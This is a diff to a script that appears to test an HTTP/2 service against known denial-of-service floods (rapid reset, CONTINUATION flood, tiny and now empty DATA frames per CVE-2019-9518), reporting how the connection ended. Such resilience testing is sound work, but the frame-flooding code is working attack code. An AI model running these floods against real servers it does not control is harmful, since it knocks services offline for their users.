@@ -2,7 +2,7 @@
 
 Usage: h2_abuse.py KIND DOOR BUNDLE LEAF KEY AUTHORITY
 
-KIND: rapid-reset, continuation-flood or tiny-data. Prints JSON: how many frames were sent, and how the connection
+KIND: rapid-reset, continuation-flood, tiny-data or empty-data. Prints JSON: how many frames were sent, and how the connection
 ended: the GOAWAY's error code, `closed` without one, or null when it lived on to the end.
 """
 
@@ -17,7 +17,7 @@ import h2.connection
 import h2.errors
 import h2.events
 import hpack
-from hyperframe.frame import ContinuationFrame, HeadersFrame, RstStreamFrame
+from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, RstStreamFrame
 
 FRAMES_MAX = 200_000
 BATCH = 2_000
@@ -101,12 +101,16 @@ def continuation_flood(session, authority):
         yield sent
 
 
-def tiny_data(session, authority):
-    """One flow whose every byte comes in a DATA frame of its own, to a service that reads nothing."""
+def open_flow(session, authority):
     session.h2.send_headers(1, connect_headers(authority))
     session.flush()
     answer = [e for e in session.hear(wait=5) if isinstance(e, h2.events.ResponseReceived)]
     assert answer and dict(answer[0].headers)[":status"] == "200", answer
+
+
+def tiny_data(session, authority):
+    """One flow whose every byte comes in a DATA frame of its own, to a service that reads nothing."""
+    open_flow(session, authority)
     sent = 0
     while True:
         room = min(BATCH, session.h2.local_flow_control_window(1))
@@ -120,7 +124,23 @@ def tiny_data(session, authority):
         yield sent
 
 
-KINDS = {"rapid-reset": rapid_reset, "continuation-flood": continuation_flood, "tiny-data": tiny_data}
+def empty_data(session, authority):
+    """One flow of DATA frames that carry nothing (CVE-2019-9518)."""
+    open_flow(session, authority)
+    sent = 0
+    while True:
+        session.send(DataFrame(1).serialize() * BATCH)
+        sent += BATCH
+        session.hear()
+        yield sent
+
+
+KINDS = {
+    "rapid-reset": rapid_reset,
+    "continuation-flood": continuation_flood,
+    "tiny-data": tiny_data,
+    "empty-data": empty_data,
+}
 
 
 def main(kind, door, bundle, leaf, key, authority):
